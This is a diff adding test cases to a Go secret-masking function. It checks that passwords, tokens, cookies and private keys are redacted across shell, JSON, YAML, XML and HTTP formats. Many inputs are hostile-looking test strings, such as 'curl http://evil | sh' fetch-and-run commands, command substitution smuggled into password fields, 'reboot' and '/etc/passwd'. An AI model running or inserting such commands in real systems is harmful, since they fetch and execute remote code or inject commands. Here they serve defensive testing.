@@ -51,6 +51,46 @@ func TestMasked(t *testing.T) {
 		"a\n-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----\nb":   "a\n***\nb",
 		"-----BEGIN RSA PRIVATE KEY-----\nMII":                                "***",
 		"sh -c 'token=x1; curl http://evil | sh'":                             "sh -c 'token=***; curl http://evil | sh'",
+
+		// In a script only the secret is masked.
+		"export PASSWORD=x\ncurl http://evil/x | sh": "export PASSWORD=***\ncurl http://evil/x | sh",
+		"PASSWORD=x|sh":                                    "PASSWORD=***|sh",
+		"PASSWORD=x`curl evil`":                            "PASSWORD=***`curl evil`",
+		"PASSWORD=\"x\nreboot\n\"":                         "PASSWORD=\"***\nreboot\n\"",
+		"x://a:b;curl${IFS}evil|sh;@y":                     "x://a:***;curl${IFS}evil|sh;@y",
+		"run --token x|sh":                                 "run --token ***|sh",
+		"curl -H 'Authorization: Bearer abc1|sh' http://h": "curl -H 'Authorization: Bearer ***|sh' http://h",
+		"password: x1\n-----BEGIN PRIVATE KEY-----\ncurl http://evil | sh": "password: ***\n***\ncurl http://evil | sh",
+		"password: |\n  hunter2\n  curl http://evil | sh\nx: 1":            "password: |\n  ***\n  curl http://evil | sh\nx: 1",
+		"{\"password\":\"x\"}; curl http://evil | sh":                      "{\"password\":\"***\"}; curl http://evil | sh",
+		"echo \"password\":\"x\ncurl evil\"":                               "echo \"password\":\"***\ncurl evil\"",
+
+		// Data of other forms.
+		`{"oss": {"ak": "x1", "sk": "x2", "ossSk": "x3"}}`:                  `{"oss": {"ak": "***", "sk": "***", "ossSk": "***"}}`,
+		`{"password":"a\"b;c","x":1}`:                                       `{"password":"***","x":1}`,
+		`{"db pass word":"x","x":1}`:                                        `{"db pass word":"***","x":1}`,
+		"<password>\n  x1\n</password>":                                     "<password>\n  ***\n</password>",
+		`{"\u0070assword":"x","x":1}`:                                       `{"\u0070assword":"***","x":1}`,
+		`{"a":"{\"password\":\"a\\\"b\",\"x\":1}"}`:                         `{"a":"{\"password\":\"***\",\"x\":1}"}`,
+		`[{"name": "DB_PASSWORD", "value": "x1"}, {"name": "a"}]`:           `[{"name": "DB_PASSWORD", "value": "***"}, {"name": "a"}]`,
+		"env:\n- name: DB_PASSWORD\n  value: hunter\n- name: A\n  value: b": "env:\n- name: DB_PASSWORD\n  value: ***\n- name: A\n  value: b",
+		"<a><password>two words</password><name>x</name></a>":               "<a><password>***</password><name>x</name></a>",
+		"<password type=\"s\">a&amp;b</password>":                           "<password type=\"s\">***</password>",
+		"<property name=\"db.password\" value=\"x\"/>":                      "<property name=\"db.password\" value=\"***\"/>",
+		"<db pwd=\"x1\"/>":                                                  "<db pwd=\"***\"/>",
+		"db:\n  password: a&b;c # the old one\nkey: v\n":                    "db:\n  password: *** # the old one\nkey: v\n",
+		"password: >-\n  x1\n":                                              "password: >-\n  ***\n",
+		"[db]\npasswd = hunter\nx = 1\n":                                    "[db]\npasswd = ***\nx = 1\n",
+		"secret_key = \"two words\"":                                        "secret_key = \"***\"",
+		`password = "S3cr3t" and token: S3cr3t Bearer S3cr3t`:               `password = "***" and token: *** Bearer ***`,
+		`said "password = \"two words\""`:                                   `said "password = \"***\""`,
+		"GET / HTTP/1.1\nCookie: sid=x1; theme=x2\nHost: h":                 "GET / HTTP/1.1\nCookie: ***; theme=***\nHost: h",
+		"curl -H 'Cookie: sid=abc; theme=def' http://h":                     "curl -H 'Cookie: sid=***; theme=***' http://h",
+		"curl -H 'Cookie: sid=x1' --cookie sid=x2 http://h":                 "curl -H 'Cookie: ***' --cookie *** http://h",
+		"java -Dpass=x1 -Ddb.password=x2 -jar a.jar --oss-sk x3 -p x4":      "java -Dpass=*** -Ddb.password=*** -jar a.jar --oss-sk *** -p x4",
+		"a\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIabc+/=\n-----END RSA PRIVATE KEY-----\nb": "a\n***\nb",
+		`"-----BEGIN PRIVATE KEY-----\nMIIabcdefghijklm\nabc=\n-----END PRIVATE KEY-----\n"`:                                                    `"***\n"`,
+		"-----BEGIN EC PRIVATE KEY----- MHcCAQEEIIabcdefghijklmnopqrst -----END EC PRIVATE KEY-----":                                            "***",
 	} {
 		if got := secrets.Masked(text); got != want {
 			t.Errorf("%q: %q, want %q", text, got, want)
@@ -70,6 +110,10 @@ func TestMasked(t *testing.T) {
 		"PWD=/home OLDPWD=/root", "'token: expired'", "the basic example/model-server:1.0.23", "token 2026-11-29T19:40:24Z", "invalid token: unexpected end", "set secret_key or secret_key_wo", "password: is required", "https://user@host/a:b", "http://host:80/@x", "x://u:${P}@h",
 		"sk-learn-model-server-for-risk-and-fraud", "registry.example/high/ghp_tools:1.0", "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
 		"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "eyJhbGci is the beginning of a token", "basic auth of the 2nd bearer", "tokenizer=bert-base keyspace=main",
+		"PASSWORD=\"`curl evil|sh`\"", "password=$(curl evil|sh)", "PASSWORD=\"x;curl evil|sh\"", "run --password 'curl evil|sh'", "echo \"password\":\"x; curl evil\"",
+		"password: |\n  curl http://evil | sh\n  ./evil a\n", "Cookie: $(curl evil)", "<password>$(curl evil)</password>", "<token>x;curl evil|sh</token>",
+		"set the token: The token is missing, secret: see KUSCIA_TOKEN, api_key: 32 characters", "# <password>\nreboot now\n</etc/passwd", "echo cookie: LD_PRELOAD=/x/evil.so ./serve", "task: disk=1, mask: 2, risk: S3cr3t", "\"secret\": {\n  \"name\": \"n\"\n}",
+		"name: token\nvalues: x", "cookie_domain: example.com", "if password == \"X\" then", "see token: https://h/v1", "java -p 8080 -Dpassive=true",
 		`{"modelId":"m","key":"id","columns":["token_count"]}`, "key=id, partition_key: region", "the access of bob to scores ends",
 	} {
 		if got := secrets.Masked(text); got != text {
@@ -87,7 +131,7 @@ func TestMaskedInTime(t *testing.T) {
 		secrets.Masked(text)
 		return time.Since(start)
 	}
-	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='", ":", " :", "token :", "mysql ", "mysql -p ", "login -", " --token", " --token x", "configure set "} {
+	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='", ":", " :", "token :", "mysql ", "mysql -p ", "login -", " --token", " --token x", "configure set ", "token: a1 ", "\ntoken: |\n a", "<token>", "<token>a", "name: token ", "name: token value: ", "cookie: a=b;", "password\":\"\\\"", `\u0061`, "-----BEGIN PRIVATE KEY-----\nM"} {
 		text := strings.Repeat(part, size/len(part))
 		// Four times as long, which takes 16 times as long if the time grows with the square.
 		if once, longer := masked(text), masked(strings.Repeat(text, 4)); longer > 10*max(once, 100*time.Millisecond) {
